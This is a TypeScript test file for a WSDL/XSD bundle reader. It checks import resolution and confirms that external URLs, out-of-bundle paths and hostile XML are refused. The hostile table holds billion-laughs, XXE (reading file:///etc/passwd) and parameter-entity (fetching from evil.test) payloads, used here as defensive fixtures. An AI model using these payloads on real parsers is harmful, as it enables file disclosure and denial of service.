import { strToU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import { Diagnostics, SpecificationRejected } from '../diagnostics/diagnostics.js';
import type { Bundle } from './bundle/read-bundle.js';
import { readDocuments } from './read-documents.js';

const DEFS = 'xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/" xmlns:xs="http://www.w3.org/2001/XMLSchema"';

const bundle = (files: Record<string, string>, main = Object.keys(files)[0]!): Bundle => ({ main, files: new Map(Object.entries(files).map(([path, text]) => [path, strToU8(text)])) });

function rejected(run: () => unknown): { code: string; location: string; message: string }[] {
  try {
    run();
  } catch (error) {
    if (error instanceof SpecificationRejected) return error.issues;
    throw error;
  }
  throw new Error('not rejected');
}

const wsdlImporting = (...locations: string[]): string =>
  `<wsdl:definitions ${DEFS}><wsdl:types><xs:schema targetNamespace="urn:a">${locations.map((l) => `<xs:import namespace="urn:x" schemaLocation="${l}"/>`).join('')}</xs:schema></wsdl:types></wsdl:definitions>`;

describe('readDocuments', () => {
  it('follows imports and includes relative to each document, ../ included, each document once', () => {
    const diagnostics = new Diagnostics();
    const set = readDocuments(
      bundle({
        'wsdl/service.wsdl': `<wsdl:definitions ${DEFS}><wsdl:import namespace="urn:b" location="parts/more.wsdl"/><wsdl:types><xs:schema><xs:import schemaLocation="../xsd/a.xsd"/></xs:schema></wsdl:types></wsdl:definitions>`,
        'wsdl/parts/more.wsdl': `<wsdl:definitions ${DEFS}><wsdl:types><xs:schema><xs:include schemaLocation="../../xsd/a.xsd"/></xs:schema></wsdl:types></wsdl:definitions>`,
        'xsd/a.xsd': '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="common/b.xsd"/></xs:schema>',
        'xsd/common/b.xsd': '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import schemaLocation="../a.xsd"/><xs:import schemaLocation="b.xsd"/></xs:schema>',
      }),
      diagnostics,
    );
    expect(set.documents.map((d) => [d.path, d.kind])).toEqual([
      ['wsdl/service.wsdl', 'wsdl'],
      ['wsdl/parts/more.wsdl', 'wsdl'],
      ['xsd/a.xsd', 'xsd'],
      ['xsd/common/b.xsd', 'xsd'],
    ]);
    expect(diagnostics.warnings).toEqual([]);
    expect([...set.resolved.values()].sort()).toEqual(['wsdl/parts/more.wsdl', 'xsd/a.xsd', 'xsd/a.xsd', 'xsd/a.xsd', 'xsd/common/b.xsd', 'xsd/common/b.xsd']);
  });

  it('never fetches an absolute URL, and warns of missing files and paths outside the bundle', () => {
    const diagnostics = new Diagnostics();
    const set = readDocuments(bundle({ 'service.wsdl': wsdlImporting('http://example.test/types.xsd', 'file:///etc/passwd', 'missing.xsd', '../outside.xsd') }), diagnostics);
    expect(set.documents).toHaveLength(1);
    expect(diagnostics.warnings.map((w) => w.code)).toEqual(['wsdl_import_external', 'wsdl_import_external', 'wsdl_import_missing', 'wsdl_import_missing']);
    expect(diagnostics.warnings[0]!.message).toContain('http://example.test/types.xsd');
    expect(diagnostics.warnings[2]!.message).toContain('missing.xsd');
    expect(diagnostics.warnings[2]!.location).toBe("service.wsdl#/definitions/types/schema/import[@schemaLocation='missing.xsd']");
    expect(diagnostics.warnings[3]!.message).toContain('outside the bundle');
  });

  it('refuses WSDL 2.0, and a root that is no WSDL, naming it', () => {
    const v2 = rejected(() => readDocuments(bundle({ 'service.wsdl': '<description xmlns="http://www.w3.org/ns/wsdl"/>' }), new Diagnostics()));
    expect(v2[0]!.code).toBe('wsdl_version_unsupported');
    const other = rejected(() => readDocuments(bundle({ 'service.wsdl': '<project xmlns="urn:maven"/>' }), new Diagnostics()));
    expect(other[0]!.code).toBe('wsdl_no_soap_binding');
    expect(other[0]!.message).toContain('root element is project');
  });

  const hostile: [string, string, string][] = [
    ['billion laughs', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/">&lol2;</wsdl:definitions>', 'xml_refused'],
    ['external entity', '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/">&xxe;</wsdl:definitions>', 'xml_refused'],
    ['parameter entity', '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.test/p.dtd">%p;]><wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/"/>', 'xml_refused'],
    ['undeclared entity', '<wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/">&xxe;</wsdl:definitions>', 'xml_refused'],
    ['deep nesting', `<wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/">${'<a>'.repeat(300)}${'</a>'.repeat(300)}</wsdl:definitions>`, 'xml_refused'],
    ['huge attribute', `<wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/" name="${'x'.repeat((1 << 20) + 1)}"/>`, 'xml_refused'],
    ['malformed', '<wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/">\n<a></b></wsdl:definitions>', 'xml_invalid'],
    ['empty', '', 'xml_invalid'],
  ];
  for (const [name, text, code] of hostile) {
    it(`refuses ${name} as a failure, in the main document and in an imported one`, () => {
      const main = rejected(() => readDocuments(bundle({ 'service.wsdl': text }), new Diagnostics()));
      expect(main[0]!.code).toBe(code);
      expect(main[0]!.location).toMatch(/^service\.wsdl(?::\d+)?$/);
      expect(JSON.stringify(main)).not.toMatch(/root:|lollol/);
      const diagnostics = new Diagnostics();
      readDocuments(bundle({ 'service.wsdl': wsdlImporting('evil.xsd'), 'evil.xsd': text }), diagnostics);
      expect(diagnostics.errors.map((e) => e.code)).toEqual([code]);
      expect(diagnostics.errors[0]!.location).toMatch(/^evil\.xsd/);
    });
  }

  it('refuses a chain of more than 500 documents', () => {
    const files: Record<string, string> = { 'service.wsdl': wsdlImporting('x0.xsd') };
    for (let i = 0; i < 520; i++) files[`x${i}.xsd`] = `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="x${i + 1}.xsd"/></xs:schema>`;
    const issues = rejected(() => readDocuments(bundle(files), new Diagnostics()));
    expect(issues[0]!.code).toBe('bundle_unsafe');
    expect(issues[0]!.message).toContain('500 documents');
  });

  it('says where a malformed document breaks', () => {
    const issues = rejected(() => readDocuments(bundle({ 'api/service.wsdl': '<wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/">\n\n<a></b></wsdl:definitions>' }), new Diagnostics()));
    expect(issues[0]!.location).toBe('api/service.wsdl:3');
  });
});
